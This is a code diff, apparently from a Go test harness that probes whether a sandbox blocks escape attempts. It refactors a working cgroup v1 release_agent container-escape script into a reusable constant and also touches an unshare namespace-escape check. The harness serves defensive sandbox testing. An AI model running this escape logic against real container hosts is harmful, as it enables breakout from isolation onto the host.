@@ -14,6 +14,25 @@ def call(name, nr, *args):
     return r
 `
 
+// releaseAgentScript is the classic cgroup v1 escape: mount a hierarchy,
+// point release_agent at each path of $RT_PAYLOADS and empty a cgroup
+// with notify_on_release set, so that a kernel that honours it runs the
+// payload on the host. It collects what was accepted in $r. POSIX sh, so
+// that it runs under busybox too.
+const releaseAgentScript = `r=""
+for sub in memory pids cpu rdma; do
+  d=/tmp/rt-cg-$sub; mkdir -p $d
+  mount -t cgroup -o $sub cgroup $d 2>/dev/null || { r="$r $sub:no-mount"; continue; }
+  mkdir -p $d/x
+  (echo 1 > $d/x/notify_on_release) 2>/dev/null || r="$r $sub:no-notify_on_release"
+  for p in $RT_PAYLOADS; do
+    (echo "$p" > $d/release_agent) 2>/dev/null && r="$r $sub:release_agent-accepted-in-sandbox"
+  done
+  sh -c "echo \$\$ > $d/x/cgroup.procs" 2>/dev/null
+  rmdir $d/x 2>/dev/null; umount $d 2>/dev/null
+done
+sleep 1`
+
 func kernelAttempts() []Attempt {
 	return []Attempt{
 		{
@@ -97,7 +116,7 @@ blocked(" ".join(results))`)
 			},
 		},
 		{
-			Name: "unshare new namespaces and remount /proc", Category: Kernel,
+			Name: "unshare new namespaces and remount /proc", Category: Kernel, Tools: []string{"unshare"},
 			Expected: "new namespaces inside gVisor", Escape: "a namespace that shows the host kernel",
 			Run: func(ctx context.Context, s *Scene) Verdict {
 				return s.sh(ctx, `out=$(unshare -Urmpf --mount-proc sh -c 'cat /proc/version /proc/sys/kernel/random/boot_id; ls /proc | head -5; cat "$CANARY_PATH"' 2>&1)
@@ -108,29 +127,18 @@ blocked "unshare: $(echo "$out" | head -1 | cut -c1-40)"`)
 			},
 		},
 		{
-			Name: "cgroup release_agent", Category: Kernel,
+			Name: "cgroup release_agent", Category: Kernel, Tools: []string{"mount"},
 			Expected: "no host program runs", Escape: "the host running a sandbox's program when a cgroup empties",
 			Run: func(ctx context.Context, s *Scene) Verdict {
 				return s.sh(ctx, `printf '#!/bin/sh\ntouch "%s"\n' "$DROP_PATH" > /tmp/rt-payload; chmod +x /tmp/rt-payload
-r=""
-for sub in memory pids cpu rdma; do
-  d=/tmp/rt-cg-$sub; mkdir -p $d
-  mount -t cgroup -o $sub cgroup $d 2>/dev/null || { r="$r $sub:no-mount"; continue; }
-  mkdir -p $d/x
-  (echo 1 > $d/x/notify_on_release) 2>/dev/null || r="$r $sub:no-notify_on_release"
-  for p in "$HOST_ROOTFS/tmp/rt-payload" /tmp/rt-payload; do
-    (echo "$p" > $d/release_agent) 2>/dev/null && r="$r $sub:release_agent-accepted-in-sandbox"
-  done
-  sh -c "echo \$\$ > $d/x/cgroup.procs" 2>/dev/null
-  rmdir $d/x 2>/dev/null; umount $d 2>/dev/null
-done
-sleep 1
+RT_PAYLOADS="$HOST_ROOTFS/tmp/rt-payload /tmp/rt-payload"
+`+releaseAgentScript+`
 [ -e "$DROP_PATH" ] && echo "payload ran inside the sandbox"
 blocked "release_agent:$r (the host drop file is checked from outside)"`)
 			},
 		},
 		{
-			Name: "raise the sandbox's own cgroup limits", Category: Kernel,
+			Name: "raise the sandbox's own cgroup limits", Category: Kernel, Tools: []string{"mount"},
 			Expected: "the host cgroup unchanged", Escape: "lifting the memory, pids or CPU limits the host enforces",
 			Run: func(ctx context.Context, s *Scene) Verdict {
 				return s.sh(ctx, `r=""
